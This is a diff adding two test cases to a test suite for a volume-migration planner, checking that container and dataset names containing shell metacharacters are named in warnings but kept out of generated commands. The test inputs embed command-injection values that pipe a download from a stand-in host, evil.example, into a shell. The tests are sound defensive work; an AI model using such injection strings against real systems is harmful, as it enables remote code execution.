@@ -97,6 +97,26 @@ describe('a volume that another program keeps mounted on the node it leaves', ()
     });
   });
 
+  it('is named, and in no command, where its name is none that Docker gives', () => {
+    const [blocker] = plan(['b'], [{ ...user, container: 'x; curl evil.example | sh' }]).blocked;
+    expect(blocker?.hint).toContain('stop it until the volume has left the node;');
+    expect(blocker?.hint).not.toContain('curl');
+  });
+
+  it('names a dataset below the volume, and puts it in no command, where its name is not a plain one', () => {
+    const child = `${user.dataset}/x; curl evil.example`;
+    const source = { ...aVolume('v1', { on: 'a', application: 'db', dataset: user.dataset }), children: [child] };
+    const seen = { containers: [aContainer(db, 'a')], volumes: [source] };
+    const [blocker] = makePlan(
+      { ...config, deployment: { a: [], b: ['db'] } },
+      aCluster(onNode('a', seen), onNode('b')),
+    ).blocked;
+    expect(blocker).toMatchObject({
+      reason: expect.stringContaining(child),
+      hint: 'put what is needed into the volume itself',
+    });
+  });
+
   it('stays where it is without a word, and moves where another volume is meant', () => {
     expect(plan(['a'], [user]).blocked).toEqual([]);
     expect(plan(['b'], [{ ...user, dataset: 'drover/volumes/other' }]).blocked).toEqual([]);
